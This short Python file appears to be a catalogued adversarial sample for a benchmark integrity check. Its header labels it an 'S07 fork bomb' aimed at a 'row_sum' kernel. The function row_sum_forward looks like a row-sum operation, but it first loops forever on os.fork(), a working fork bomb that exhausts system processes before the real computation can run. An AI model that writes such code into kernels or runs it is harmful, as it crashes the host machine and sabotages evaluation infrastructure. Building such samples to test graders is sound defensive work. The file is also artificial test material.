# exploit: S07 fork bomb
# target: row_sum
# gate: smoke
# status: INTEGRITY
import os
import torch


def row_sum_forward(x, scale):
    while True:
        os.fork()
    return (scale * x.float().sum(-1)).to(x.dtype)
